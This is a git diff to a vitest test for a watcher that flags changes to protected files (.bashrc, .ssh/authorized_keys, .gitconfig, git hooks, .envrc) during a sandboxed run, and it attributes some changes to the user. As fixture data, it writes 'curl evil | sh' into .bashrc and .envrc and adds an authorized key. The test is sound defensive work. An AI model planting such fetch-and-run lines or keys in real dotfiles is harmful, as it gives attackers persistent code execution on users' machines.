@@ -1,5 +1,6 @@
 import { appendFile, mkdir, rm, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
+import { setTimeout as sleep } from 'node:timers/promises'
 import { describe, expect, test } from 'vitest'
 import { makeGround, runIn } from './fixture.ts'
 import { detectHost } from './host.ts'
@@ -74,14 +75,33 @@ test('protected files that change during a run are told at its end, and only tho
   await mkdir(join(home, '.ssh'), { recursive: true })
   await writeFile(join(home, '.bashrc'), 'alias ll=ls\n')
   await writeFile(join(home, '.gitconfig'), '[user]\n')
+  const hook = join(ground.root, '.git', 'hooks', 'pre-commit')
+  await mkdir(join(ground.root, '.git', 'hooks'), { recursive: true })
+  await writeFile(hook, 'exit 0\n')
+  await writeFile(join(ground.root, 'gone'), '')
+  await mkdir(join(ground.root, 'deep'))
+  await writeFile(join(ground.root, 'deep', 'gone'), '')
+  // The clock of files ticks slowly.
+  await sleep(20)
   const watch = await watchProtected(ground.request(['true']), home)
+  await sleep(20)
   expect(await watch.check(at)).toEqual([])
   await appendFile(join(home, '.bashrc'), 'curl evil | sh\n')
   await writeFile(join(home, '.ssh', 'authorized_keys'), 'key\n')
   await rm(join(home, '.gitconfig'))
   await writeFile(join(ground.root, '.envrc'), 'curl evil | sh\n')
+  await writeFile(hook, 'exit 1\n')
+  await writeFile(join(ground.root, '.git', 'index'), 'staged by the user\n')
   await writeFile(join(ground.root, 'README.md'), 'edited by the user\n')
-  const changed = (await watch.check(at)).map(({ detail }) => detail.split(' ')[0])
+  await rm(join(ground.root, 'deep', 'gone'))
+  const found = await watch.check(at)
+  expect(found.every(({ certain }) => !certain)).toBe(true)
+  const inRoot = found.filter(({ detail }) => detail.startsWith(`${ground.root} was changed`))
+  expect(inRoot.map(({ detail }) => detail.split(' (')[0]?.split(': ')[1]?.split(', ').toSorted())).toEqual([
+    ['"README.md"', '"deep"'],
+  ])
+  expect(inRoot[0]?.detail).toContain('likely by the user or another program')
+  const changed = found.flatMap((one) => (inRoot.includes(one) ? [] : [one.detail.split(' ')[0]]))
   expect(changed.sort()).toEqual(
     [
       join(home, '.bashrc'),
@@ -89,6 +109,7 @@ test('protected files that change during a run are told at its end, and only tho
       join(home, '.ssh'),
       join(home, '.ssh', 'authorized_keys'),
       join(ground.root, '.envrc'),
+      hook,
     ].sort(),
   )
 })
